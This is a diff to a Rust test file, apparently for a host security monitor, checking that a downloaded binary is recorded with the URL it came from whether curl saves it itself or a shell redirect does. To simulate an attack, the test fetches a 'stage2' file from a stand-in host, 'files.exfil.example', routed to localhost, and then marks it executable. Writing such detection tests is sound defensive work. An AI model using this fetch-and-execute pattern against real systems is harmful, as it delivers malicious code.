@@ -3513,7 +3513,11 @@ fn quic_hellos_name_what_an_http3_connection_asked_for() {
 /// origin, in the JSON and in `process_events`. File changes from fanotify (the default).
 #[test]
 fn a_fetched_binary_carries_the_url_it_came_from() {
-    fetched_binary_carries_its_url("a_fetched_binary_carries_the_url_it_came_from", "");
+    fetched_binary_carries_its_url(
+        "a_fetched_binary_carries_the_url_it_came_from",
+        "",
+        Saved::ByCurl,
+    );
 }
 
 /// The same with file changes from eBPF, whose close comes in the exec's own ring.
@@ -3522,10 +3526,31 @@ fn a_fetched_binary_carries_its_url_with_ebpf_files() {
     fetched_binary_carries_its_url(
         "a_fetched_binary_carries_its_url_with_ebpf_files",
         "source = \"ebpf\"\n",
+        Saved::ByCurl,
     );
 }
 
-fn fetched_binary_carries_its_url(test: &str, files: &str) {
+/// The same where a shell saves what curl fetched (`sh -c 'curl URL > x'`): the shell opens
+/// the file and closes it last, curl writes it.
+#[test]
+fn a_binary_a_shell_saved_from_curl_carries_its_url() {
+    fetched_binary_carries_its_url(
+        "a_binary_a_shell_saved_from_curl_carries_its_url",
+        "",
+        Saved::ByShell,
+    );
+}
+
+/// Who saves what curl fetches.
+#[derive(PartialEq)]
+enum Saved {
+    /// curl itself (`-o`).
+    ByCurl,
+    /// A shell's redirection of curl's output.
+    ByShell,
+}
+
+fn fetched_binary_carries_its_url(test: &str, files: &str, saved: Saved) {
     use std::io::{Read, Write};
     use std::os::unix::fs::PermissionsExt;
     let Some((_serial, kernel)) = begin(test) else {
@@ -3550,14 +3575,22 @@ fn fetched_binary_carries_its_url(test: &str, files: &str) {
         conn.write_all(&body).unwrap();
     });
     let url = format!("http://files.exfil.example:{port}/stage2");
-    let fetched = Command::new("curl")
-        .args(["-sf", "--max-time", "10", "--resolve"])
-        .arg(format!("files.exfil.example:{port}:127.0.0.1"))
-        .arg("-o")
-        .arg(&target)
-        .arg(&url)
-        .status()
-        .expect("curl (scripts/deps installs it)");
+    let resolve = format!("files.exfil.example:{port}:127.0.0.1");
+    let fetched = match saved {
+        Saved::ByCurl => Command::new("curl")
+            .args(["-sf", "--max-time", "10", "--resolve", &resolve, "-o"])
+            .arg(&target)
+            .arg(&url)
+            .status(),
+        Saved::ByShell => Command::new("sh")
+            .arg("-c")
+            .arg(format!(
+                "curl -sf --max-time 10 --resolve {resolve} {url} > {}; true",
+                s(&target)
+            ))
+            .status(),
+    }
+    .expect("curl (scripts/deps installs it)");
     assert!(fetched.success());
     serving.join().unwrap();
     std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o755)).unwrap();
@@ -3570,7 +3603,8 @@ fn fetched_binary_carries_its_url(test: &str, files: &str) {
     let written = the(&events, "close_write", "the download", |e| {
         file_path(e) == path
     });
-    assert_eq!(written["process"]["name"], "curl", "{written}");
+    let closer = if saved == Saved::ByCurl { "curl" } else { "sh" };
+    assert_eq!(written["process"]["name"], closer, "{written}");
     assert_eq!(
         written["warden"]["file"]["content"]["origin_url"],
         url.as_str(),
